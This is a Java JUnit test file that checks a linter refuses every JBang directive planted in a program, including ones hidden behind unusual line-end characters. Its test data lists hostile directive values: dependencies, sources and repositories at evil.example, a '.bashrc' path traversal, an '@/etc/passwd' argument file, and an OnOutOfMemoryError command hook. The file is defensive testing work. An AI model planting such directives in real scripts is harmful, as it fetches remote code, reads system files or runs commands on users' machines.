package whiteboard.app;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Assumptions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import whiteboard.Proof;
import whiteboard.file.Problem;
import whiteboard.file.Rule;
import whiteboard.file.Source;
import whiteboard.parse.ProgramParser;
import whiteboard.parse.TextLint;

/// What JBang acts upon before any cage stands, in every place where it finds it: refused where it stands, and such a
/// program is run by nobody.
class DirectivesTest {

    /// Every directive of JBang 0.132.1 (its class `Directives.Names`), and what it reads as Groovy.
    private static final List<String> ORDERS = List.of("//CDS", "//COMPILE_OPTIONS -processorpath .",
            "//DEPS evil:evil:1 a:b:1", "//DEPS https://evil.example/x.jar", "//DESCRIPTION ${env.HOME}",
            "//DOCS https://evil.example", "//FILES ../../.bashrc=x", "//FILES https://evil.example/x", "//GAV a:b:1",
            "//JAVAAGENT x", "//JAVAC_OPTIONS @/etc/passwd", "//JAVA 8", "//JAVA_OPTIONS -javaagent:x.jar",
            "//MAIN Evil", "//MANIFEST Launcher-Agent-Class=Evil", "//MODULE x", "//NATIVE_OPTIONS -H:Class=Evil",
            "//NOINTEGRATIONS", "//PREVIEW", "//REPOS evil=https://evil.example",
            "//RUNTIME_OPTIONS -XX:OnOutOfMemoryError=id", "//RUNTIME_OPTIONS -javaagent:x.jar",
            "//SOURCES https://evil.example/X.java", "//SOURCES ../../*.java",
            "//GROOVY 4", "//KOTLIN 2", "//Q:CONFIG a=b",
            "@Grab('evil:evil:1')", "@GrabResolver('https://evil.example')");

    private static final String PROGRAM = """
            ///usr/bin/env jbang "$0" "$@" ; exit $?
            //JAVA 25+
            //RUNTIME_OPTIONS -ea
            //DESCRIPTION Adds

            void main() {
                assert 1 + 1 == 2;
                IO.println(2 + 2);
            }

            /* Output
            4
            */
            """;

    /// What may begin a line to one reader of a text and not to another.
    private static final List<String> LINE_ENDS = List.of("\r", "\f", "\u000b", "\u0085", "\u2028", "\u2029");

    private static final Set<Rule> REFUSED = EnumSet.of(Rule.PROGRAM_HEADER, Rule.PROGRAM_DIRECTIVE);

    @TempDir
    Path folder;

    /// Programs with an order in every place where a line may begin, each behind its place.
    private static List<String> programs(String order) {
        List<String> programs = new ArrayList<>();
        for (String line : List.of("", "//JAVA 25+\n", "//RUNTIME_OPTIONS -ea\n", "//DESCRIPTION Adds\n",
                " == 2;\n", "}\n", "/* Output\n", "*/\n")) {
            programs.add(PROGRAM.replaceFirst(Pattern.quote(line), Matcher.quoteReplacement(line + order + "\n")));
        }
        programs.add(PROGRAM.replace("//JAVA 25+", order));
        programs.add(PROGRAM.replace("void main", "String text = \"\"\"\n" + order + "\n    \"\"\";\n\nvoid main"));
        return programs;
    }

    private static List<Problem> problems(String text) {
        Source source = new Source(Planted.PROGRAM, text, "");
        List<Problem> problems = new ArrayList<>(TextLint.problems(source));
        problems.addAll(ProgramParser.parse(source).problems());
        return problems;
    }

    /// In the line of the order, by one of the rules.
    private static boolean refused(String text, String order, Set<Rule> rules) {
        int line = text.substring(0, text.indexOf(order)).split("\n", -1).length;
        return problems(text).stream().anyMatch(it -> it.at().line() == line && rules.contains(it.rule()));
    }

    @Test
    void everyOrderToJbangIsRefusedWhereItStands() {
        List<String> let = new ArrayList<>();
        int tried = 0;
        for (String order : ORDERS) {
            for (String text : programs(order)) {
                tried++;
                if (!refused(text, order, REFUSED)) let.add(text);
            }
        }
        for (String end : LINE_ENDS) {
            tried++;
            String text = PROGRAM.replace(" == 2;", " == 2; // a" + end + ORDERS.getFirst());
            if (!refused(text, ORDERS.getFirst(), EnumSet.of(Rule.TEXT_CONTROL, Rule.TEXT_INVISIBLE))) let.add(text);
        }
        Proof.of("cage", tried + " orders to jbang in a program, " + let.size() + " not refused where they stand");
        assertEquals(List.of(), let);
        assertEquals(List.of(), problems(PROGRAM));
        assertFalse(refused(PROGRAM.replace(" == 2;", " == 2; //CDS"), "//CDS", REFUSED));
    }

    @Test
    void theRealJbangNeverGetsAProgramThatOrdersIt() throws IOException {
        Assumptions.assumeTrue(Cli.linux(), "jbang is started by bash");
        Sample guide = Sample.in(folder);
        Sample.Ran good = guide.run("verify", "--jbang");
        assertEquals("0 1 program run by jbang", good.exit() + " " + said(good), good.err());
        guide.edit(Planted.PROGRAM, "void main() {", "//JAVA_OPTIONS -Dplanted=obeyed\nvoid main() {");
        Sample.Ran ran = guide.run("verify", "--jbang");
        assertEquals("1 0 programs run by jbang", ran.exit() + " " + said(ran), ran.err());
        assertTrue(ran.err().contains("error[program-directive]: jbang acts upon `//JAVA_OPTIONS`"), ran.err());
        assertTrue((ran.out() + ran.err()).contains("0 programs verified"), ran.out() + ran.err());
    }

    private static String said(Sample.Ran ran) {
        return (ran.out() + ran.err()).lines().filter(it -> it.endsWith("by jbang")).findFirst().orElse("nothing");
    }
}
